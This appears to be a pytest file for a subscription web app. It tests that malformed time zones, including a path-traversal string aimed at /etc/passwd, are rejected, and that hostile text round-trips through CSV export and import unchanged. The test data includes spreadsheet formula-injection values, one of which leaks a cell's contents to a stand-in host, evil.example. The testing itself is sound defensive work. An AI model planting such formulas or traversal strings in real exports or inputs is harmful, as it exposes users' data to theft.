"""Hostile profile values on the real web app: time zones that are not zones get the form
back (400), and whatever the form takes survives a CSV export and import unchanged."""

from __future__ import annotations

import io
import re
from typing import Any

import pytest
from sqlalchemy import delete, select

from digest.store.engine import transaction
from digest.store.imports import all_subscribers, apply_import, parse_csv, plan_import, write_csv
from digest.store.schema import SubscriberRow
from tests.web.conftest import Site, both_databases

NOT_ZONES = ["Europe", "America", "Etc", "x" * 300, "Europe/", "../../etc/passwd", "UTC\x00"]


def subscribe(site: Site, **fields: Any) -> Any:
    form = {"email": "ada@example.org", "topics": "speculative decoding\nLLM agents"}
    form.update(fields)
    form.setdefault("csrf_token", site.csrf_token())
    return site.client.post("/subscribe", data=form)


def rows(site: Site) -> list[SubscriberRow]:
    with transaction(site.engine) as session:
        return list(session.scalars(select(SubscriberRow)))


def preferences_link(site: Site) -> str:
    """Subscribe and confirm through the pages and the mail, as a visitor does."""
    assert subscribe(site, timezone="Asia/Tokyo").status_code == 303
    confirm = site.link_in_last_mail("ada@example.org", "confirm")
    done = site.client.post(confirm, data={"csrf_token": site.csrf_token(confirm)})
    match = re.search(r'href="([^"]*/preferences/[^"]+)"', done.text)
    assert match, "no preferences link on the confirmed page"
    return match[1].removeprefix(site.url)


@pytest.mark.parametrize("zone", NOT_ZONES)
def test_subscribing_with_a_zone_folder_or_junk_gets_the_form_back(site: Site, zone: str) -> None:
    answer = subscribe(site, timezone=zone, topics="my own topic")
    assert answer.status_code == 400
    assert 'id="timezone-error"' in answer.text
    assert "not a time zone" in answer.text
    assert "my own topic" in answer.text  # the form keeps what was typed
    assert "zoneinfo" not in answer.text
    assert "site-packages" not in answer.text
    assert rows(site) == []
    assert site.smtp.received == []


@both_databases
def test_preferences_with_a_zone_folder_get_the_form_back_and_change_nothing(
    site: Site,
) -> None:
    link = preferences_link(site)
    for zone in ("Europe", "America", "x" * 300):
        form = {
            "topics": "a new topic",
            "timezone": zone,
            "send_at": "08:15",
            "csrf_token": site.csrf_token(link),
        }
        answer = site.client.post(link, data=form)
        assert answer.status_code == 400
        assert 'id="timezone-error"' in answer.text
        assert "a new topic" in answer.text
    (row,) = rows(site)
    assert (row.timezone, row.topics) == ("Asia/Tokyo", ["speculative decoding", "LLM agents"])


def test_zone_names_are_stored_in_their_own_spelling(site: Site) -> None:
    assert subscribe(site, timezone="america/new_york").status_code == 303
    assert rows(site)[0].timezone == "America/New_York"


# One line each: the form's topics, authors and exclusions are one per line.
HOSTILE_LINES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "a; b; c",
    'quoted "topic", with commas',
    "\u202eright-to-left override\u200f",
    "+SUM(1)",
    "-1",
    "@cmd",
    "'=quoted already",
    "back\\slash\\;",
    "tab\tinside",
]


@both_databases
def test_what_the_form_stores_exports_and_imports_back_identically(site: Site) -> None:
    answer = subscribe(
        site,
        topics="\n".join(HOSTILE_LINES),
        authors="Lovelace, Ada\n=Turing",
        exclude="-survey\n;",
        timezone="Europe/Berlin",
    )
    assert answer.status_code == 303, answer.text
    with transaction(site.engine) as session:
        before = all_subscribers(session)
    (stored,) = before
    assert stored.topics[0] == HOSTILE_LINES[0]
    assert "a; b; c" in stored.topics
    assert stored.authors == ("Lovelace, Ada", "=Turing")
    buffer = io.StringIO(newline="")
    write_csv(buffer, before)
    parsed = parse_csv(buffer.getvalue())
    with transaction(site.engine) as session:
        assert plan_import(session, parsed).unchanged == parsed
        session.execute(delete(SubscriberRow))
    with transaction(site.engine) as session:
        plan = plan_import(session, parsed)
        apply_import(session, plan, default_timezone="UTC", default_send_at="07:00")
    with transaction(site.engine) as session:
        (after,) = all_subscribers(session)
    fields = ("email", "status", "topics", "categories", "authors", "exclude", "timezone")
    assert [getattr(after, f) for f in fields] == [getattr(stored, f) for f in fields]
    assert after.send_at == stored.send_at


def test_a_nul_byte_is_refused_in_every_field(site: Site) -> None:
    for field in ("topics", "authors", "exclude"):
        answer = subscribe(site, **{field: "nul\x00inside"})
        assert answer.status_code == 400, field
        assert f'id="{field}-error"' in answer.text
        assert "control character" in answer.text
    assert rows(site) == []
